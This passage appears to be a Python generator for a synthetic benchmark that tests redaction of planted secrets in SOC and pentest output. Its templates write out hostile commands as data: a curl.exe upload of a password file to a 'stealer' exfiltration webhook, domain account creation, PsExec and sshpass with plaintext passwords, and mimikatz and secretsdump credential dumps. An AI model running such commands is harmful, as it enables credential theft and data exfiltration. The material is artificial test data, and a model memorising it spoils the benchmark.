"""The thirty-ninth blind redaction corpus: security operations, incident response and penetration testing, what
an agent in a SOC or a red team reads and writes. Written from the formats' public specifications by someone who
read neither the detection rules nor the other corpora.

Carriers (the `form` head): text -- Splunk SPL results (`splunk`), Sentinel KQL tables (`kql`), EDR process trees
(`edr_tree`), nmap script output (`nmap`), hydra runs (`hydra`), netexec/crackmapexec sweeps (`netexec`), Burp
Suite request logs (`burp`), sqlmap table dumps (`sqlmap`), Metasploit consoles (`msf`), impacket secretsdump runs
(`secretsdump`), mimikatz sessions (`mimikatz`), raw phishing e-mails with RFC 5322 headers (`email`), URL sandbox
reports (`sandbox`), password-spray logs (`spray`), incident timelines as Markdown tables (`timeline`), ServiceNow
tickets (`ticket`), vulnerability scanner plugin output (`nessus`) and the agent's messages to users in 28
languages (`chat`); JSON -- Elastic/Kibana hits (`elastic`), GuardDuty findings (`guardduty`), Security Hub ASFF
(`securityhub`), Defender for Cloud alerts (`defender`), STIX 2.1 bundles (`stix`), Falcon-style EDR events
(`edr_json`), Splunk REST exports (`splunk_json`), Sentinel incidents with comments (`sentinel`) and MCP tool
results (`tool_result`). About a third is JSON carried (`is_json`); a value whose snippet holds literal escapes
(`raw_only`) travels in text only.

Formats and their sources: cards, ISO/IEC 7812 IIN ranges (Visa 4, Mastercard 51-55/2221-2720, Amex 34/37,
Discover 6011/644-649/65, JCB 3528-3589, Diners 36, UnionPay 62) with the Luhn digit; IBANs, ISO 13616 and the
SWIFT IBAN registry's BBAN structures (MOD 97-10), printed in fours or compact; SSNs, the SSA's rules (area not
000/666/9xx, group not 00, serial not 0000); phones, the NANP (NPA/NXX not N11, no 555), Ofcom's plan (07 mobiles,
020/0161/0121/0131 geographic, the drama ranges left out), ARCEP's (06/07 mobiles, 01-05 geographic, the fiction
ranges left out), BNetzA's (015x/016x/017x mobiles, 030/089/040/069/0221) and TRAI's (10-digit mobiles from 6-9,
STD-coded landlines), each with context words in the country's language; AWS keys, IAM's documented AKIA/ASIA ids
(16 base32 characters) and 40-character secrets; Slack, Discord, Teams, Power Automate, Google Chat, Mattermost,
Zapier, Rocket.Chat and Webex incoming-webhook URLs as their docs print them (the secret is the token segment or
the `sig`/`token` value only); Stripe `whsec_` signing secrets (dashboard and `stripe listen` forms); ADO.NET,
Azure Storage/Service Bus/IoT Hub, ODBC, JDBC and URI connection strings (the secret is the password or key only);
JWT (RFC 7519/7515), HTTP Basic (RFC 7617), Bearer (RFC 6750), Digest `response=` (RFC 7616), SigV4 `Signature=`;
cookies (RFC 6265) as the frameworks name and shape them (JSESSIONID, PHPSESSID, ASP.NET_SessionId, Django
`sessionid`, Express `connect.sid`, Entra `ESTSAUTHPERSISTENT`); PEM PKCS#8/SEC1 (RFC 5208/5915/7468) and
OpenSSH keys, also in GCP service-account JSON; NT hashes (an MD4 digest in 32 hex, as secretsdump and mimikatz
print it); GitHub `ghp_`/`gho_`/`ghu_`/`ghs_`/`ghr_` (CRC32 checksum) and `github_pat_` tokens;
Slack `xoxb-`/`xoxp-`/`xapp-` tokens; GitLab `glpat-`/`glptt-`/`glrt-` tokens; Google API keys (`AIza` + 35);
SendGrid `SG.` keys; TOTP seeds (RFC 6238/4648 base32 in Google Authenticator's `otpauth://` URI); recovery codes
as GitHub, Google and Microsoft print them; national ids (outside the target): Swedish personnummer (Luhn),
Finnish HETU (mod 31 letter), Chinese resident id (ISO 7064 MOD 11-2), Belgian national number (97 - mod 97),
Brazilian CPF (two mod 11 digits), Polish PESEL (weights 1-3-7-9), Indian Aadhaar (Verhoeff).

Judgements: a case's `secret` is only what must not survive (a webhook's token segment, a connection string's
password, a cookie's value, a header's credential, an NT hash but not the constant empty LM hash beside it, a
key's base64 body but not its armour lines). A password a spray found or an operator typed is a secret whether it
is strong or `Winter2025!`. An attacker's exfiltration webhook still carries a live token, so it is a webhook
case. Near misses are what SOC and pentest output holds that is neither secret nor personal: IOC hashes of
malware, GuardDuty finding ids, CVE and ATT&CK ids, Windows event ids and pids, ports and addresses of lab hosts,
timestamps, trace/request ids, CSS selectors and XPath of login forms, CSRF field names, placeholders such as
`********` or `you@example.com`, masked values, the AWS docs' EXAMPLE keys, version banners, Luhn-invalid
references, businesses' published toll-free lines, ticket and order numbers, parcel tracking numbers in lures,
geolocation centroids, screenshot sizes and cache-busting asset hashes: none of them identifies a person or opens
anything.
"""

from __future__ import annotations

import base64
import json
import random
import string
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import NamedTuple
from urllib.parse import quote

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519

from benchmarks.corpus_formats import (
    b64url,
    bban,
    crc_token,
    digits,
    group,
    group_card,
    iban_check,
    luhn_digit,
    openssh_ed25519_blob,
    pick,
)

SEED = 39
PER_KIND = 100
NEGATIVES_PER_SORT = 20
OUTSIDE_TARGET = frozenset({"se_personnummer", "fi_hetu", "cn_resident_id", "be_nrn", "br_cpf", "pl_pesel",
                            "in_aadhaar"})
"""National ids: written and reported, not held to the recall target."""

UPPER = string.ascii_uppercase
LOWER = string.ascii_lowercase
ALNUM = string.ascii_letters + string.digits
LOWNUM = string.ascii_lowercase + string.digits
B64 = string.ascii_letters + string.digits + "+/"
URLSAFE = string.ascii_letters + string.digits + "-_"
HEX = "0123456789abcdef"
BASE32 = string.ascii_uppercase + "234567"


@dataclass(frozen=True)
class Case:
    """One planted value: its kind, `carrier/style` form, the value as written, and the text carrying it."""

    kind: str
    form: str
    secret: str
    text: str
    is_json: bool

    @property
    def carried(self) -> str:
        """The text as it reaches redaction (the carrier already is the stored string)."""
        return self.text


Value = tuple[str, str, str, bool]
"""(style, secret, snippet holding the secret, raw_only: the snippet holds literal escapes and travels in text)."""


# ---- shared bits ----------------------------------------------------------------------------------------------

HOSTS = ["WS-FIN-042", "DC01", "SRV-SQL-07", "LT-HR-113", "web-prod-3", "jump01", "EXCH02", "bastion-eu1",
         "FS-PAR-02", "k8s-node-11", "VDI-0193", "build-agent-4"]
USERS = ["jdoe", "m.keller", "svc_backup", "a.rossi", "p.sharma", "l.dubois", "k.nowak", "t.yilmaz", "svc_sql",
         "helpdesk2", "e.johansson", "r.tanaka", "adm_ops", "s.fernandes"]
AD = ["CORP", "NORTHWIND", "FABRIKAM", "HQ", "EU-OPS"]


def _ip(rng: random.Random) -> str:
    return f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(2, 254)}"


def _ts(rng: random.Random) -> str:
    return (f"2025-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}T{rng.randint(0, 23):02d}:"
            f"{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}.{rng.randint(0, 999):03d}Z")


def _guid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _dump(obj: object) -> str:
    return json.dumps(obj, ensure_ascii=False)


class Lang(NamedTuple):
    """How the agent addresses a user in one language, and that language's labels."""

    intro: str
    password: str
    email: str
    card: str
    iban: str
    key: str


LANGS: dict[str, Lang] = {
    "en": Lang("Hi, SOC agent here. Incident update:", "password", "email", "card number", "IBAN", "API key"),
    "de": Lang("Hallo, hier ist der SOC-Agent. Stand zum Vorfall:", "Passwort", "E-Mail", "Kartennummer", "IBAN",
               "API-Schlüssel"),
    "fr": Lang("Bonjour, ici l'agent SOC. Point sur l'incident :", "mot de passe", "courriel", "numéro de carte",
               "IBAN", "clé API"),
    "es": Lang("Hola, soy el agente del SOC. Novedades del incidente:", "contraseña", "correo", "número de tarjeta",
               "IBAN", "clave de API"),
    "pt": Lang("Olá, aqui é o agente do SOC. Atualização do incidente:", "senha", "e-mail", "número do cartão",
               "IBAN", "chave de API"),
    "it": Lang("Ciao, sono l'agente SOC. Aggiornamento sull'incidente:", "password", "e-mail",
               "numero della carta", "IBAN", "chiave API"),
    "nl": Lang("Hallo, hier de SOC-agent. Stand van het incident:", "wachtwoord", "e-mailadres", "kaartnummer",
               "IBAN", "API-sleutel"),
    "pl": Lang("Dzień dobry, tu agent SOC. Aktualizacja incydentu:", "hasło", "e-mail", "numer karty",
               "numer IBAN", "klucz API"),
    "sv": Lang("Hej, det här är SOC-agenten. Läget i incidenten:", "lösenord", "e-post", "kortnummer", "IBAN",
               "API-nyckel"),
    "da": Lang("Hej, her er SOC-agenten. Status på hændelsen:", "adgangskode", "e-mail", "kortnummer", "IBAN",
               "API-nøgle"),
    "no": Lang("Hei, dette er SOC-agenten. Status for hendelsen:", "passord", "e-post", "kortnummer",
               "IBAN-nummer", "API-nøkkel"),
    "fi": Lang("Hei, tässä SOC-agentti. Tilannekatsaus poikkeamaan:", "salasana", "sähköposti", "kortin numero",
               "IBAN-tilinumero", "API-avain"),
    "cs": Lang("Dobrý den, zde SOC agent. Stav incidentu:", "heslo", "e-mail", "číslo karty", "IBAN", "klíč API"),
    "tr": Lang("Merhaba, SOC ajanı yazıyor. Olay güncellemesi:", "parola", "e-posta", "kart numarası", "IBAN",
               "API anahtarı"),
    "ru": Lang("Здравствуйте, это агент SOC. Обновление по инциденту:", "пароль", "эл. почта", "номер карты",
               "IBAN", "API-ключ"),
    "uk": Lang("Вітаю, це агент SOC. Оновлення щодо інциденту:", "пароль", "ел. пошта", "номер картки", "IBAN",
               "ключ API"),
    "el": Lang("Γεια σας, εδώ ο πράκτορας SOC. Ενημέρωση για το περιστατικό:", "κωδικός πρόσβασης", "email",
               "αριθμός κάρτας", "IBAN", "κλειδί API"),
    "ar": Lang("مرحبًا، هنا وكيل مركز العمليات الأمنية. تحديث الحادث:", "كلمة المرور", "البريد الإلكتروني",
               "رقم البطاقة", "رقم الآيبان", "مفتاح API"),
    "he": Lang("שלום, כאן סוכן ה-SOC. עדכון לגבי האירוע:", "סיסמה", "דואר אלקטרוני", "מספר כרטיס", "IBAN",
               "מפתח API"),
    "hi": Lang("नमस्ते, मैं SOC एजेंट हूँ। घटना अपडेट:", "पासवर्ड", "ईमेल", "कार्ड नंबर", "IBAN", "API कुंजी"),
    "ja": Lang("SOCエージェントです。インシデントの更新:", "パスワード", "メール", "カード番号", "IBAN", "APIキー"),
    "ko": Lang("안녕하세요, SOC 에이전트입니다. 사고 업데이트:", "비밀번호", "이메일", "카드 번호", "IBAN", "API 키"),
    "zh": Lang("您好，我是SOC代理。事件更新：", "密码", "邮箱", "卡号", "IBAN", "API密钥"),
    "vi": Lang("Xin chào, đây là tác tử SOC. Cập nhật sự cố:", "mật khẩu", "email", "số thẻ", "IBAN", "khóa API"),
    "id": Lang("Halo, ini agen SOC. Pembaruan insiden:", "kata sandi", "email", "nomor kartu", "IBAN",
               "kunci API"),
    "th": Lang("สวัสดีครับ เอเจนต์ SOC แจ้งความคืบหน้าเหตุการณ์:", "รหัสผ่าน", "อีเมล", "หมายเลขบัตร", "IBAN",
               "คีย์ API"),
    "ro": Lang("Bună, aici agentul SOC. Actualizare incident:", "parolă", "e-mail", "numărul cardului", "IBAN",
               "cheie API"),
    "hu": Lang("Üdv, itt a SOC-ügynök. Incidens frissítés:", "jelszó", "e-mail", "kártyaszám", "IBAN",
               "API-kulcs"),
}
"""28 languages: the agent's greeting and the labels a user reads in their own language."""


def _lang(rng: random.Random) -> Lang:
    return LANGS[rng.choice(list(LANGS))]


# ---- carriers: text -------------------------------------------------------------------------------------------

def c_splunk(rng: random.Random, snip: str, _s: str) -> str:
    """A Splunk search and one event of its results, `_raw` last."""
    host, t = rng.choice(HOSTS), _ts(rng)
    return (f"index=edr (sourcetype=XmlWinEventLog OR sourcetype=linux_secure) host={host} earliest=-24h\n"
            f"{rng.randint(2, 400)} events (before {t})\n{t}  host={host}  source=WinEventLog:Security  "
            f"EventCode={rng.choice([4688, 4104, 1])}\n_raw: {snip}")


def c_kql(rng: random.Random, snip: str, _s: str) -> str:
    """A Sentinel KQL query and its result table."""
    return ("SecurityEvent\n| where EventID == 4688 and TimeGenerated > ago(1d)\n"
            "| project TimeGenerated, Computer, Account, CommandLine\n\n"
            "TimeGenerated [UTC] | Computer | Account | CommandLine\n"
            f"{_ts(rng)} | {rng.choice(HOSTS)}.corp.local | {rng.choice(AD)}\\{rng.choice(USERS)} | {snip}")


def c_edr_tree(rng: random.Random, snip: str, _s: str) -> str:
    """An EDR detection's process tree, the command line on the leaf."""
    pid = rng.randint(1000, 9999)
    return (f"Detection: Credential Access via command line (severity High) on {rng.choice(HOSTS)}\n"
            f"explorer.exe (pid {pid})\n  └─ cmd.exe (pid {pid + rng.randint(4, 400)})\n"
            f"      └─ powershell.exe (pid {pid + rng.randint(401, 900)})\n          cmdline: {snip}")


def c_nmap(rng: random.Random, snip: str, _s: str) -> str:
    """nmap with NSE scripts, the value in a script's output."""
    ip = _ip(rng)
    return (f"Nmap scan report for {ip}\nHost is up (0.00{rng.randint(10, 99)}s latency).\n"
            "PORT     STATE SERVICE VERSION\n22/tcp   open  ssh     OpenSSH 8.9p1 Ubuntu 3ubuntu0.10\n"
            f"8080/tcp open  http    Apache Tomcat 9.0.{rng.randint(40, 90)}\n| http-config-backup:\n|_  {snip}\n"
            "Service detection performed.")


def c_hydra(rng: random.Random, snip: str, _s: str) -> str:
    """A hydra run, the value among its result lines."""
    return (f"Hydra v9.5 (c) 2023 by van Hauser/THC - for legal purposes only\n[DATA] max 16 tasks per 1 server, "
            f"overall 16 tasks, {rng.randint(200, 9000)} login tries\n[DATA] attacking ssh://{_ip(rng)}:22/\n"
            f"{snip}\n1 of 1 target successfully completed, 1 valid password found")


def c_netexec(rng: random.Random, snip: str, _s: str) -> str:
    """A netexec (crackmapexec) SMB sweep."""
    ip, host = _ip(rng), rng.choice(HOSTS)
    return (f"SMB  {ip}  445  {host}  [*] Windows Server 2019 Build 17763 x64 (name:{host}) (domain:corp.local) "
            f"(signing:True) (SMBv1:False)\n{snip}\nSMB  {ip}  445  {host}  [*] Enumerated shares")


def c_burp(rng: random.Random, snip: str, _s: str) -> str:
    """A Burp Suite proxy history entry: request line, headers, the value in the body or a header."""
    return (f"#{rng.randint(10, 900)}  https://portal.corp-{rng.randint(1, 9)}.net  POST /api/v2/session  "
            f"200  {rng.randint(300, 4000)}\nPOST /api/v2/session HTTP/2\nHost: portal.corp.net\n"
            f"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\nAccept: */*\n{snip}")


SQLMAP_RULE = "+----+---------------------------+"


def c_sqlmap(rng: random.Random, snip: str, _s: str) -> str:
    """sqlmap dumping a table, the value in a row."""
    return (f"[{rng.randint(10, 23)}:{rng.randint(10, 59)}:{rng.randint(10, 59)}] [INFO] fetching entries for "
            "table 'users' in database 'crm'\nDatabase: crm\nTable: users\n[3 entries]\n"
            f"{SQLMAP_RULE}\n| id | record                    |\n{SQLMAP_RULE}\n| {rng.randint(1, 99)} | {snip} |\n"
            f"{SQLMAP_RULE}")


def c_msf(rng: random.Random, snip: str, _s: str) -> str:
    """A Metasploit console with a session open."""
    return (f"msf6 exploit(windows/smb/psexec) > sessions -i {rng.randint(1, 9)}\n[*] Starting interaction with "
            f"{rng.randint(1, 9)}...\nmeterpreter > shell\nC:\\Windows\\system32> {snip}")


def c_secretsdump(rng: random.Random, snip: str, _s: str) -> str:
    """impacket secretsdump.py against a domain controller."""
    return (f"Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies\n"
            f"[*] Service RemoteRegistry is in stopped state ({rng.randint(1, 9)} retries)\n"
            "[*] Dumping Domain Credentials (domain\\uid:rid:lmhash:nthash)\n"
            f"[*] Using the DRSUAPI method to get NTDS.DIT secrets\n{snip}\n[*] Cleaning up...")


def c_mimikatz(rng: random.Random, snip: str, _s: str) -> str:
    """A mimikatz session, logonpasswords output."""
    return (f"mimikatz # privilege::debug\nPrivilege '20' OK\n\nmimikatz # sekurlsa::logonpasswords\n\n"
            f"Authentication Id : 0 ; {rng.randint(100000, 9999999)} (00000000:{pick(rng, HEX, 8)})\n"
            f"Session           : Interactive from 1\nUser Name         : {rng.choice(USERS)}\n{snip}")


def c_email(rng: random.Random, snip: str, _s: str) -> str:
    """A reported phishing e-mail as raw RFC 5322, the value in a header or the body."""
    return (f"Received: from mail-{rng.randint(1, 99)}.bulk-sender.net ([{_ip(rng)}])\n"
            f"Authentication-Results: mx.corp.net; spf=softfail; dkim=none; dmarc=fail\n"
            f"Message-ID: <{pick(rng, LOWNUM, 20)}@bulk-sender.net>\nSubject: Action required: verify your account\n"
            f"Content-Type: text/plain; charset=utf-8\n\n{snip}")


def c_sandbox(rng: random.Random, snip: str, _s: str) -> str:
    """A URL sandbox report with the strings it pulled out."""
    return (f"Sandbox report #{rng.randint(100000, 999999)}\nURL: hxxps://login-{pick(rng, LOWER, 6)}[.]com/\n"
            f"Verdict: malicious (phishing kit, score {rng.randint(70, 100)}/100)\nExtracted artefacts:\n  {snip}")


def c_spray(rng: random.Random, snip: str, _s: str) -> str:
    """A password-spray / credential-stuffing log."""
    return (f"[{_ts(rng)}] spray round {rng.randint(1, 12)} against https://login.microsoftonline.com "
            f"({rng.randint(50, 900)} users, 1 password)\n[-] AADSTS50126 for {rng.randint(3, 40)} accounts\n"
            f"{snip}\n[*] sleeping {rng.choice([30, 45, 60])} min (lockout threshold 10)")


def c_timeline(rng: random.Random, snip: str, _s: str) -> str:
    """An incident timeline as a Markdown table."""
    return ("| Time (UTC) | Source | Observation |\n|---|---|---|\n"
            f"| {_ts(rng)} | EDR | suspicious child of winword.exe |\n| {_ts(rng)} | analyst | {snip} |")


def c_ticket(rng: random.Random, snip: str, _s: str) -> str:
    """A ServiceNow security incident with its work notes."""
    return (f"SIR00{rng.randint(10000, 99999)}  Priority: 2 - High  State: Contain\nShort description: "
            f"Compromised account on {rng.choice(HOSTS)}\nWork notes ({_ts(rng)}, SOC agent):\n{snip}")


def c_nessus(rng: random.Random, snip: str, _s: str) -> str:
    """A vulnerability scanner finding with plugin output."""
    return (f"Plugin ID: {rng.randint(10000, 200000)}\nName: Sensitive information disclosed in configuration file"
            f"\nSeverity: High\nHost: {_ip(rng)}\nPort: {rng.choice([80, 443, 8080, 8443])}/tcp\n"
            f"Plugin Output:\n  {snip}")


def c_chat(rng: random.Random, snip: str, _s: str) -> str:
    """The agent's message to a user, in the language of the snippet's label when it has one of `LANGS`."""
    spoken = [lang for lang in LANGS.values() if any(label in snip for label in lang[1:] if label != "IBAN")]
    lang = max(spoken, key=lambda lang: max(len(label) for label in lang[1:] if label in snip), default=None)
    return f"{(lang or _lang(rng)).intro}\n{snip}"


TEXT_CARRIERS: dict[str, Callable[[random.Random, str, str], str]] = {
    "splunk": c_splunk, "kql": c_kql, "edr_tree": c_edr_tree, "nmap": c_nmap, "hydra": c_hydra,
    "netexec": c_netexec, "burp": c_burp, "sqlmap": c_sqlmap, "msf": c_msf, "secretsdump": c_secretsdump,
    "mimikatz": c_mimikatz, "email": c_email, "sandbox": c_sandbox, "spray": c_spray, "timeline": c_timeline,
    "ticket": c_ticket, "nessus": c_nessus, "chat": c_chat}


# ---- carriers: JSON -------------------------------------------------------------------------------------------

def c_elastic(rng: random.Random, snip: str, _s: str) -> str:
    """An Elastic Security hit from Kibana's Discover, the value as the process command line."""
    return _dump({"_index": ".ds-logs-endpoint.events.process-default-2025.03.02-000001",
                  "_id": pick(rng, URLSAFE, 20), "_score": None,
                  "_source": {"@timestamp": _ts(rng), "host": {"name": rng.choice(HOSTS)},
                              "event": {"category": ["process"], "type": ["start"]},
                              "process": {"pid": rng.randint(1000, 30000), "command_line": snip}}})


def c_guardduty(rng: random.Random, snip: str, _s: str) -> str:
    """A GuardDuty finding, the value in its description."""
    return _dump({"SchemaVersion": "2.0", "AccountId": digits(rng, 12), "Region": "eu-west-1",
                  "Id": pick(rng, HEX, 32), "Type": "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration",
                  "Severity": 8, "Title": "Credentials used from an external IP address", "Description": snip,
                  "CreatedAt": _ts(rng)})


def c_securityhub(rng: random.Random, snip: str, _s: str) -> str:
    """A Security Hub finding in ASFF."""
    acct = digits(rng, 12)
    return _dump({"Findings": [{"SchemaVersion": "2018-10-08",
                                "Id": f"arn:aws:securityhub:us-east-1:{acct}:finding/{_guid(rng)}",
                                "AwsAccountId": acct, "Types": ["Sensitive Data Identifications/Passwords"],
                                "Severity": {"Label": "HIGH"}, "Title": "Secret found in Lambda environment",
                                "Description": snip}]})


def c_defender(rng: random.Random, snip: str, _s: str) -> str:
    """A Defender for Cloud security alert."""
    return _dump({"id": f"/subscriptions/{_guid(rng)}/providers/Microsoft.Security/alerts/{_guid(rng)}",
                  "properties": {"alertDisplayName": "Suspicious process executed", "severity": "High",
                                 "compromisedEntity": rng.choice(HOSTS),
                                 "extendedProperties": {"command line": snip, "user name": rng.choice(USERS)}}})


def c_stix(rng: random.Random, snip: str, _s: str) -> str:
    """A STIX 2.1 bundle with a note on an indicator."""
    t = _ts(rng)
    ind = f"indicator--{_guid(rng)}"
    return _dump({"type": "bundle", "id": f"bundle--{_guid(rng)}", "objects": [
        {"type": "indicator", "spec_version": "2.1", "id": ind, "created": t, "modified": t,
         "pattern": f"[ipv4-addr:value = '{_ip(rng)}']", "pattern_type": "stix", "valid_from": t},
        {"type": "note", "spec_version": "2.1", "id": f"note--{_guid(rng)}", "created": t, "modified": t,
         "content": snip, "object_refs": [ind]}]})


def c_edr_json(rng: random.Random, snip: str, _s: str) -> str:
    """A Falcon-style process event."""
    return _dump({"event_simpleName": "ProcessRollup2", "ComputerName": rng.choice(HOSTS),
                  "UserName": rng.choice(USERS), "TargetProcessId": str(rng.getrandbits(40)),
                  "ImageFileName": "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "CommandLine": snip})


def c_splunk_json(rng: random.Random, snip: str, _s: str) -> str:
    """Splunk's REST export (`output_mode=json`) of one result."""
    return _dump({"preview": False, "offset": 0, "result": {"_time": _ts(rng), "host": rng.choice(HOSTS),
                                                            "sourcetype": "linux_secure", "_raw": snip}})


def c_sentinel(rng: random.Random, snip: str, _s: str) -> str:
    """A Sentinel incident with an analyst's comment."""
    return _dump({"name": _guid(rng), "properties": {"title": "Multi-stage attack on a user account",
                                                     "severity": "High", "incidentNumber": rng.randint(100, 99999),
                                                     "comments": [{"message": snip,
                                                                   "author": {"name": "SOC agent"}}]}})


def c_tool_result(rng: random.Random, snip: str, _s: str) -> str:
    """An MCP tool result returned to the agent."""
    return _dump({"jsonrpc": "2.0", "id": rng.randint(1, 500),
                  "result": {"content": [{"type": "text", "text": snip}], "isError": False}})


JSON_CARRIERS: dict[str, Callable[[random.Random, str, str], str]] = {
    "elastic": c_elastic, "guardduty": c_guardduty, "securityhub": c_securityhub, "defender": c_defender,
    "stix": c_stix, "edr_json": c_edr_json, "splunk_json": c_splunk_json, "sentinel": c_sentinel,
    "tool_result": c_tool_result}


# ---- values: passwords and cloud keys -------------------------------------------------------------------------

SEASONS = ["Winter", "Summer", "Spring", "Autumn", "Welcome", "Sommer", "Printemps", "Verano", "Inverno", "Herfst",
           "Kevaet", "Zima", "Lente", "Outono", "Company", "Changeme"]
PW_SYMBOLS = "!#$%&*@^-_.?+="


def password_value(rng: random.Random) -> str:
    """A password as sprays find them (season + year + symbol), a generated one, or a passphrase; no quotes,
    backslashes or spaces so every command line and form below can hold it."""
    style = rng.randrange(3)
    if style == 0:
        return f"{rng.choice(SEASONS)}{rng.choice(['2023', '2024', '2025', '24', '25'])}{rng.choice('!#$@?')}"
    if style == 1:
        return (pick(rng, ALNUM, rng.randint(5, 9)) + rng.choice(PW_SYMBOLS) + digits(rng, 2)
                + pick(rng, ALNUM + PW_SYMBOLS, rng.randint(3, 7)))
    words = [rng.choice(SEASONS).lower(), pick(rng, LOWER, 5), rng.choice(["Falke", "harbor", "Lluvia", "fjord"])]
    return "-".join(words) + digits(rng, 2)


PW_STYLES = [
    ("hydra", "[22][ssh] host: {ip}   login: {user}   password: {pw}"),
    ("netexec", "SMB  {ip}  445  {host}  [+] {ad}\\{user}:{pw} (Pwn3d!)"),
    ("mimikatz", "\t * Username : {user}\n\t * Domain   : {ad}\n\t * Password : {pw}"),
    ("net_user", "net user {user} {pw} /add /domain"),
    ("psexec", "PsExec64.exe \\\\{host} -u {ad}\\{user} -p {pw} -accepteula cmd.exe"),
    ("sshpass", "sshpass -p '{pw}' ssh -o StrictHostKeyChecking=no {user}@{ip}"),
    ("mysql", "mysql -h {ip} -u {user} -p{pw} crm"),
    ("securestring", "$pw = ConvertTo-SecureString '{pw}' -AsPlainText -Force"),
    ("msf", "msf6 auxiliary(scanner/smb/smb_login) > set SMBPass {pw}"),
    ("sqlmap_row", "{user} | {pw} | admin"),
    ("spray_hit", "[+] VALID LOGIN {user}@corp.net : {pw}"),
    ("cmdkey", "cmdkey /generic:TERMSRV/{host} /user:{ad}\\{user} /pass:{pw}"),
    ("evilginx", "[{host}] [+] [o365] Password: [{pw}]"),
    ("lang_label", "{label}: {pw}"),
    ("user_says", "({user}) my {label} was {pw} before I clicked the link"),
]


def v_password(rng: random.Random, i: int) -> Value:
    """A password in a tool's output, a command line, a form body or a user's own words."""
    pw = password_value(rng)
    if i % 11 == 5:
        enc = quote(pw, safe="")
        return "burp_form", enc, f"Content-Type: application/x-www-form-urlencoded\n\nusername={rng.choice(USERS)}" \
            f"&password={enc}&remember=1", False
    style, tpl = PW_STYLES[i % len(PW_STYLES)]
    snip = tpl.format(ip=_ip(rng), user=rng.choice(USERS), host=rng.choice(HOSTS), ad=rng.choice(AD), pw=pw,
                      label=_lang(rng).password)
    return style, pw, snip, False


def aws_key_id(rng: random.Random, prefix: str = "AKIA") -> str:
    """An IAM access key id: AKIA (long-term) or ASIA (STS), then 16 base32 characters."""
    return prefix + pick(rng, BASE32, 16)


AWS_STYLES = [
    ("credentials_file", "$ cat /home/{user}/.aws/credentials\n[default]\naws_access_key_id = {kid}\n"
                         "aws_secret_access_key = {s}"),
    ("env", "AWS_ACCESS_KEY_ID={kid} AWS_SECRET_ACCESS_KEY={s} aws s3 sync s3://backups-prod ."),
    ("cli_configure", "aws configure set aws_secret_access_key {s} --profile prod"),
    ("sts_json", '"Credentials": {{"AccessKeyId": "{sid}", "SecretAccessKey": "{s}", "Expiration": "{t}"}}'),
    ("scanner", "Detector Type: AWS\nAccess key: {kid}\nSecret: {s}\nFile: terraform/prod.tfvars"),
    ("pacu", "Pacu (prod:imported) > set_keys\nAccess key ID [{kid}]\nSecret access key: {s}"),
    ("csv", "User name,Access key ID,Secret access key\n{user},{kid},{s}"),
    ("beside_id", "{kid} {s}"),
    ("boto3", "boto3.client('s3', aws_access_key_id='{kid}', aws_secret_access_key='{s}')"),
    ("lang_label", "AWS {label}: {kid} / {s}"),
    ("export_session", "export AWS_ACCESS_KEY_ID={sid}\nexport AWS_SECRET_ACCESS_KEY={s}"),
]


def v_aws_secret(rng: random.Random, i: int) -> Value:
    """A 40-character AWS secret access key, labelled or beside its AKIA/ASIA id."""
    s = pick(rng, B64, 40)
    style, tpl = AWS_STYLES[i % len(AWS_STYLES)]
    snip = tpl.format(kid=aws_key_id(rng), sid=aws_key_id(rng, "ASIA"), s=s, user=rng.choice(USERS), t=_ts(rng),
                      label=_lang(rng).key)
    return style, s, snip, False


def _webhook(rng: random.Random, i: int) -> tuple[str, str, str]:
    """(service, token, URL) of one incoming-webhook URL as the service's docs print it."""
    service = i % 9
    if service == 0:
        tok = pick(rng, ALNUM, 24)
        return "slack", tok, f"https://hooks.slack.com/services/T{pick(rng, UPPER + string.digits, 10)}/" \
            f"B{pick(rng, UPPER + string.digits, 10)}/{tok}"
    if service == 1:
        tok = pick(rng, URLSAFE, 68)
        return "discord", tok, f"https://discord.com/api/webhooks/{rng.randint(10 ** 17, 2 ** 62)}/{tok}"
    if service == 2:
        tok = pick(rng, HEX, 32)
        return "teams", tok, f"https://{rng.choice(['corp', 'northwind'])}.webhook.office.com/webhookb2/" \
            f"{_guid(rng)}@{_guid(rng)}/IncomingWebhook/{tok}/{_guid(rng)}"
    if service == 3:
        tok = pick(rng, URLSAFE, 43)
        return "power_automate", tok, f"https://prod-{rng.randint(10, 99)}.westeurope.logic.azure.com:443/" \
            f"workflows/{pick(rng, HEX, 32)}/triggers/manual/paths/invoke?api-version=2016-06-01" \
            f"&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig={tok}"
    if service == 4:
        tok = pick(rng, URLSAFE, 43)
        return "google_chat", tok, f"https://chat.googleapis.com/v1/spaces/AAAA{pick(rng, URLSAFE, 7)}/messages" \
            f"?key=AIzaSyDdI0hCZtE6vySjMm-WEfRq3CPzqKqqsHI&token={tok}"
    if service == 5:
        tok = pick(rng, LOWNUM, 26)
        return "mattermost", tok, f"https://chat.{rng.choice(['corp.net', 'ops.io'])}/hooks/{tok}"
    if service == 6:
        tok = pick(rng, LOWNUM, 7)
        return "zapier", tok, f"https://hooks.zapier.com/hooks/catch/{rng.randint(100000, 99999999)}/{tok}/"
    if service == 7:
        tok = pick(rng, ALNUM, 48)
        return "rocketchat", tok, f"https://rocket.corp.net/hooks/{pick(rng, ALNUM, 17)}/{tok}"
    tok = base64.b64encode(f"ciscospark://us/WEBHOOK/{_guid(rng)}".encode()).decode().rstrip("=")
    return "webex", tok, f"https://webexapis.com/v1/webhooks/incoming/{tok}"


WEBHOOK_LEADS = ["SOAR playbook step notify_channel: POST {u}", "stealer config decoded, exfil endpoint: {u}",
                 "curl.exe -F \"file=@C:\\Users\\Public\\pw.txt\" {u}", "alertmanager receiver api_url: {u}",
                 "Logic App action URI: {u}", "{u}", "webhook_url = \"{u}\"", "rotate this webhook, it leaked: {u}"]


def v_webhook(rng: random.Random, i: int) -> Value:
    """An incoming-webhook URL; the secret is its token segment or query value."""
    service, tok, url = _webhook(rng, i)
